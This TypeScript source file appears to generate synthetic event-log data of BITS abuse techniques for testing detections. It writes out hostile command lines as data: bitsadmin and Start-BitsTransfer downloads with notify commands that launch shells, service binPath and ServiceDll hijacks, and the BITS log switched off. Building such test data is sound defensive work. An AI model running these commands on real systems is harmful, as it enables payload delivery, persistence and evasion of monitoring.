/** Ways that the published variants do not show: documented switches, cmdlet parameters and traces of the same technique. */
import { bitsadminEvent, bitsadminLine, bitsadminProcess, transferArguments, word } from '../bitsadmin.js';
import { fileAdded, jobCreated, processEvent, scriptEvent, transferEvent } from '../events.js';
import type { Event } from '../events.js';
import { HOST, hosted, statement } from '../powershell.js';
import { hostName, jobName, path, privateAddress, publicAddress, respelled, share, url, userFolder } from '../words.js';
import type { Scene } from '../words.js';
import type { Acts } from './acts.js';

const CMD = { image: 'C:\\Windows\\System32\\cmd.exe', original: 'Cmd.Exe' };
const system = (name: string): { image: string; original: string } => ({ image: `C:\\Windows\\System32\\${name}.exe`, original: `${name}.exe` });
const set = (verb: string, ...values: readonly string[]) => (scene: Scene): readonly Event[] => [bitsadminEvent(scene, [word(`/${verb}`), jobName(scene), ...values])];

function program({ chance }: Scene): string {
  return chance.pick(['C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\mshta.exe', 'C:\\Windows\\System32\\regsvr32.exe', 'C:\\Windows\\System32\\rundll32.exe']);
}

export const furtherActs: Acts = {
  'staged download, one call after the other': (scene) => {
    const job = jobName(scene);
    return [
      bitsadminEvent(scene, [word('/create'), ...(scene.chance.is(0.5) ? [word('/download')] : []), job]), bitsadminEvent(scene, [word('/addfile'), job, url(scene), respelled(scene, path(scene))]),
      bitsadminEvent(scene, [word('/resume'), job]), bitsadminEvent(scene, [word('/complete'), job]),
    ];
  },
  'several files in one transfer': (scene) => [bitsadminEvent(scene, [word('/transfer'), jobName(scene), url(scene), path(scene), url(scene), path(scene)])],
  'reply of an upload kept as a file': (scene) => [bitsadminEvent(scene, [word('/create'), word('/upload-reply'), jobName(scene)]), bitsadminEvent(scene, [word('/setreplyfilename'), jobName(scene), path(scene, 'txt')])],
  'credentials for a server or proxy': (scene) => set('setcredentials', scene.chance.pick(['SERVER', 'PROXY']), scene.chance.pick(['BASIC', 'NTLM', 'NEGOTIATE']), scene.account, scene.chance.letters(5, 9))(scene),
  'client certificate by id': (scene) => set('setclientcertificatebyid', scene.chance.pick(['CURRENT_USER', 'LOCAL_MACHINE']), 'MY', scene.chance.hex(40))(scene),
  'server certificates that nobody checks': (scene) => set('setsecurityflags', scene.chance.pick(['30', '14', '62']))(scene),
  'notify flags and a shell': (scene) => {
    const job = jobName(scene);
    return [bitsadminEvent(scene, [word('/setnotifyflags'), job, '1']), bitsadminEvent(scene, [word('/setnotifycmdline'), job, program(scene), `${scene.chance.letters(1, 4)} ${path(scene)}`])];
  },
  'all in one line of a shell': (scene) => {
    const job = scene.chance.letters(1, 6);
    const line = `cmd /c "bitsadmin /create ${job} & bitsadmin /addfile ${job} ${url(scene)} ${path(scene)} & bitsadmin /RESUME ${job} & bitsadmin /Complete ${job} & bitsadmin /reset"`;
    return [processEvent(scene, { ...CMD, line }), processEvent(scene, { ...bitsadminProcess(scene, `bitsadmin  /addfile ${job} ${url(scene)} ${path(scene)} `), parent: { image: CMD.image, line } })];
  },
  'a shell in a shell in a shell': (scene) => {
    const child = bitsadminLine(scene, transferArguments(scene, { remote: url(scene), local: path(scene), job: scene.chance.letters(1, 5) }), { quotes: 0 });
    const line = `cmd /c cmd /c "cmd /c ${child}"`;
    return [processEvent(scene, { ...CMD, line }), processEvent(scene, { ...bitsadminProcess(scene, child), parent: { image: CMD.image, line: `cmd /c ${child}` } })];
  },
  'a proxy for service accounts that leads out': (scene) => [bitsadminEvent(scene, [word('/util'), word('/setieproxy'), word(scene.chance.pick(['localsystem', 'networkservice', 'localservice'])), word('MANUAL_PROXY'), `${scene.chance.is(0.5) ? publicAddress(scene) : hostName(scene)}:8080`, 'NULL'])],
  'a copy of the tool by robocopy or PowerShell': (scene) => [scene.chance.is(0.5)
    ? processEvent(scene, { ...system('Robocopy'), line: `robocopy C:\\Windows\\System32 ${userFolder(scene)} bitsadmin.exe` })
    : processEvent(scene, { ...HOST, line: `powershell -c "${scene.chance.pick(['cp', 'Copy-Item', 'copy'])} C:\\Windows\\System32\\bitsadmin.exe ${userFolder(scene)}\\${scene.chance.letters(1, 6)}.exe"` })],
  'Start-BitsTransfer with a notify command': (scene) => hosted(scene, statement(scene, { cmdlet: 'Start-BitsTransfer', parameters: [['Source', `'${url(scene)}'`], ['Destination', path(scene)], ['NotifyFlags', '1'], ['NotifyCmdLine', `@('${program(scene)}','/c x')`]] }, 'plain'), 'both'),
  'Set-BitsTransfer with a notify command': (scene) => hosted(scene, statement(scene, { cmdlet: 'Set-BitsTransfer', parameters: [['BitsJob', '$j'], ['NotifyCmdLine', `'${program(scene)}'`]] }, 'plain'), scene.chance.pick(['line', 'script'])),
  'other identities and settings by cmdlet': (scene) => hosted(scene, statement(scene, { cmdlet: 'Start-BitsTransfer', parameters: [['Source', `'${url(scene)}'`], ['Destination', path(scene)], scene.chance.pick([['SecurityFlags', '30'] as const, ['UseStoredCredential', 'Proxy'] as const, ['CustomHeaders', "'X: 1'"] as const, ['Credential', '$c'] as const, ['ProxyUsage', 'Override'] as const])] }, 'plain'), 'script'),
  'Add-BitsFile to a job': (scene) => hosted(scene, `Get-BitsTransfer -Name ${scene.chance.letters(2, 6)} | Add-BitsFile -Source '${url(scene)}' -Destination ${path(scene)}`, scene.chance.pick(['line', 'both'])),
  'the COM class by CLSID': (scene) => hosted(scene, `$m=[Activator]::CreateInstance([type]::GetTypeFromCLSID('${scene.chance.cased('4991d34b-80a1-4291-83b6-3328366b9097')}')); $m.CreateJob('${scene.chance.letters(2, 6)}',0,[ref]$g,[ref]$j)`, scene.chance.pick(['line', 'script'])),
  'the management assembly': (scene) => hosted(scene, `Add-Type -AssemblyName Microsoft.BackgroundIntelligentTransfer.Management; [Microsoft.BackgroundIntelligentTransfer.Management.BitsManager]::new()`, 'script'),
  'an unsigned program makes jobs': (scene) => [jobCreated(scene, jobName(scene), `${userFolder(scene)}\\${scene.chance.letters(2, 8)}.exe`, 2), fileAdded(scene, jobName(scene), url(scene), `${userFolder(scene)}\\${scene.chance.letters(2, 8)}.exe`)],
  'an unsigned program loads the proxy library': ({ chance, computer, user, account }) => [{ kind: 'I', Computer: computer, User: user, Image: `C:\\Users\\${account}\\AppData\\Local\\Temp\\${chance.letters(2, 8)}.exe`, ImageLoaded: 'C:\\Windows\\System32\\BitsProxy.dll', Signed: 'true', Signature: 'Microsoft Windows' }],
  'a transfer from a share in the log': (scene) => [transferEvent(scene, scene.chance.pick([59, 60]), jobName(scene), share(scene))],
  'an executable from a private address in the log': (scene) => [fileAdded(scene, jobName(scene), `http://${privateAddress(scene)}/${scene.chance.letters(1, 6)}.exe`, `${userFolder(scene)}\\${scene.chance.letters(1, 6)}.exe`)],
  'the service disabled by command': (scene) => [scene.chance.pick([
    processEvent(scene, { ...system('sc'), line: `sc config ${scene.chance.cased('bits')} start=${scene.chance.pick(['', ' '])}disabled` }), processEvent(scene, { ...system('reg'), line: 'reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\BITS /v Start /t REG_DWORD /d 4 /f' }),
    processEvent(scene, { ...HOST, line: 'powershell -c Set-Service -Name BITS -StartupType Disabled' }),
  ])],
  'a program for the service that comes back': (scene) => [scene.chance.pick([
    processEvent(scene, { ...system('reg'), line: `reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\BITS\\Parameters /v ServiceDll /t REG_EXPAND_SZ /d ${path(scene, 'dll')} /f` }), processEvent(scene, { ...system('sc'), line: `sc config bits binPath= "${path(scene, 'exe')}"` }),
    processEvent(scene, { ...system('sc'), line: `sc failure bits command= "${path(scene, 'exe')}"` }),
  ])],
  'the log switched off by PowerShell': (scene) => [scriptEvent(scene, `$l=Get-WinEvent -ListLog ${scene.chance.cased('Microsoft-Windows-Bits-Client/Operational')}; $l.IsEnabled=$false; $l.SaveChanges()`)],
};
